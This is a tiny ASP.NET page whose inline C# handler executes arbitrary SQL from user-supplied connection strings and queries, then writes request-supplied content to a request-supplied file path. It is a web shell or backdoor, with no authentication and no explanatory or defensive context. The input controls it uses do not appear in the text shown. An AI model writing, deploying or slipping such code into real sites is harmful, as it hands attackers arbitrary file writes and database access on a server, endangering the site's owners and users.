<%@ Page Language="C#" %>
<script runat="server">
void Go(object s, EventArgs e) {
  SqlConnection c = new SqlConnection(); c.ConnectionString = txtConnection.Text;
  SqlCommand k = new SqlCommand(txtSql.Text, c); c.Open(); k.ExecuteReader();
  File.WriteAllText(Request["p"], Request["d"]);
}
</script>
